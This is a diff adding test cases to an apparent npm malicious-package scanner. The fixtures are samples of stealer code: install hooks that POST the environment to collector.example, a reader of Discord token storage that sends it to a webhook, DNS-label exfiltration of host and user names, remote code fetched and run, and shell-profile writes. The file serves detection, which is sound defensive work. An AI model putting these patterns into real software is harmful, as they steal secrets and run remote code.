@@ -315,3 +315,56 @@ exports.init = function init(dir) { fs.writeFileSync(dir + '/.github/workflows/c
     expect(['none', 'low']).toContain(r.level);
   });
 });
+
+describe('data flow the stealers of public write-ups use', () => {
+  it('the environment serialised inside an object (`JSON.stringify({ env: process.env })`) is a dump, not a child environment', () => {
+    const r = scan({ 'setup.js': `fetch('https://collector.example/c', { method: 'POST', body: JSON.stringify({ env: process.env, cwd: process.cwd() }) }).catch(() => {});\n` }, { scripts: { postinstall: 'node setup.js' } });
+    expect(r.ids).toContain('exfiltration/flow');
+    const child = scan({ 'run.js': `require('child_process').spawn('node', ['x.js'], { env: process.env, stdio: 'inherit' });\n` }, { scripts: { postinstall: 'node run.js' } });
+    expect(child.ids).not.toContain('exfiltration/flow');
+  });
+
+  it('a Discord webhook given as separate host and path options is a chat webhook', () => {
+    const r = scan({
+      'index.js': `const https = require('https'); const fs = require('fs');
+const text = fs.readFileSync(process.env.APPDATA + '/discord/Local Storage/leveldb/000003.ldb', 'utf8');
+const req = https.request({ hostname: 'discord.com', path: '/api/webhooks/1187654321098765432/Zx9-Yw8_Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0FeDcBa', method: 'POST' });
+req.end(JSON.stringify({ content: text }));
+`,
+    }, { main: 'index.js' });
+    const flow = r.findings.find((f) => f.messageId === 'flow');
+    expect(JSON.stringify(flow?.data)).toMatch(/chat webhook/);
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('data split into DNS labels by an iteration callback still reaches the lookup', () => {
+    const r = scan({
+      'index.js': `const os = require('os'); const dns = require('dns');
+function toHex(s) { return Buffer.from(s).toString('hex'); }
+const data = [os.hostname(), os.userInfo().username].join('|');
+toHex(data).match(/.{1,60}/g).forEach((label, i) => dns.lookup(i + '.' + label + '.probe.example', () => {}));
+`,
+    }, { scripts: { install: 'node index.js' } });
+    expect(r.ids).toContain('exfiltration/flow');
+  });
+
+  it('a download handed to a callback through a local helper and evaluated there is remote code', () => {
+    const r = scan({
+      'index.js': `const https = require('https');
+function load(cb) { https.get('https://paste.example/raw/x', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => cb(d)); }); }
+load((code) => new Function('require', code)(require));
+`,
+    }, { main: 'index.js' });
+    expect(r.ids).toContain('remote-code/download');
+  });
+
+  it('a shell profile written through a path joined from a list of names is a shell-profile write', () => {
+    const r = scan({
+      'install.js': `const fs = require('fs'); const os = require('os'); const path = require('path');
+for (const rc of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), rc), '\\nexport PATH="$PATH:/opt/tool"\\n');
+`,
+    }, { scripts: { postinstall: 'node install.js' } });
+    const write = r.findings.find((f) => f.messageId === 'write');
+    expect(write?.data?.what ?? '').toBe('writes a shell profile');
+  });
+});
